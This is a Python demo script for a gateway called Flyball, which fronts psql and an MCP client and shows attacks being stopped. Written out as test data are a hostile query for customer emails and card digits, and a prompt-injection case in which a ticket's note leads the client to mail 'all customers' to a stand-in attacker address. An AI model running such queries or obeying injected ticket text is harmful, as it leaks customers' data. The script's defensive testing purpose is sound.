"""The step in which nobody's program is changed: psql and an MCP client go through Flyball."""

from __future__ import annotations

import json
import time
from typing import Protocol

from flyball.demo.narrator import Narrator
from flyball.demo.sight import StageFault
from flyball.demo.stage import Stage
from flyball.kernel.json import Json

ATTACKER = "archive@outside.example"
CUSTOMER = "customer77@shop.example"
_LONG = (
    "COPY (SELECT a.id, b.note FROM public.orders a CROSS JOIN public.orders b CROSS JOIN generate_series(1, 200))"
    " TO STDOUT"
)
_CARDS = "SELECT email, card_last4 FROM public.customers"


class Must(Protocol):
    """Says what was seen, and ends the story where it is not what must be."""

    def __call__(self, text: str, holds: bool, **facts: Json) -> None:
        """`holds` is whether it is."""
        ...


class Gone(Protocol):
    """Waits until a role and its sessions are gone; how long that took."""

    def __call__(self, role: str, since: float, *, within_s: float) -> float:
        """`since` is when the privilege began."""
        ...


def play(stage: Stage, tell: Narrator, must: Must, gone: Gone) -> int:
    """The step; how many calls and statements the gateways denied."""
    since = time.monotonic()
    psql = stage.psql_through("look-up-orders")
    tell.did("flyball run look-up-orders -- psql: PostgreSQL's own psql, by variables that it has always known")
    count = psql.run("SELECT count(*) FROM public.orders")
    must(f"SELECT count(*) FROM orders, through the PostgreSQL gateway: {count}", count == "2000")
    roles = stage.roles()
    role = roles[0].name if roles else ""
    must(
        f"at the database sessions of the gateway's own, as {role}: {stage.sessions(role)}; psql logged in at the "
        "gateway alone, with a ticket of minutes",
        len(roles) == 1 and stage.sessions(role) > 0,
    )
    tell.hostile(_CARDS)
    said = psql.run(_CARDS)
    must(
        f"denied before it reached the database: {said}",
        said.startswith("ERROR:  refused by flyball: resource_not_in_profile"),
    )
    client = stage.mcp_client("answer-ticket")
    tell.did("flyball mcp --profile answer-ticket -- the desk's server: one line of an MCP client's configuration")
    shown = client.tools()
    must(
        f"of the server's three tools it is shown what the task may call: {', '.join(shown)}",
        shown == ["read_ticket", "send_mail"],
    )
    read, ticket = client.call("read_ticket", ticket="T-2001")
    if not read:
        raise StageFault(f"the ticket could not be read: {ticket}", "look at mcp.log in the demo's folder")
    tell.hostile(f"the ticket's note says: {json.loads(ticket)['note']}")
    did, answer = client.call("send_mail", to=ATTACKER, body="all customers")
    must(
        f"the client obeys; what its model reads: {answer}; mails sent there: {stage.mails_to(ATTACKER)}",
        not did and "origin_mismatch" in answer and stage.mails_to(ATTACKER) == 0,
    )
    did, answer = client.call("send_mail", to=CUSTOMER, body="It comes tomorrow.")
    must(
        f"the customer, at the ticket's own address: mails sent: {stage.mails_to(CUSTOMER)}",
        did and stage.mails_to(CUSTOMER) == 1,
    )
    psql.send(_LONG)
    while not psql.line()[:1].isdigit():
        pass  # what psql still says of the refusal
    psql.read_on()
    line = stage.cli("revoke", "--agent", "clerk", "--reason", "look at this agent")
    after = gone(role, since, within_s=10)
    rows, last = psql.rest(within_s=10)
    # psql's own word of its connection; or that of `flyball run`, where its heartbeat learnt of the end first.
    broke = next((one for one in last if "connection" in one or "is over" in one), "")
    must(
        f"`{line}`, while psql reads: its result breaks off after {rows:,} more rows: {broke or last[-1]}; "
        f"role and sessions gone {after:.2f} s after",
        bool(broke),
    )
    did, answer = client.call("read_ticket", ticket="T-2001")
    must(f"the MCP client's next call: {answer}", not did and "task_fenced" in answer)
    client.stop()
    psql.stop()
    return 2
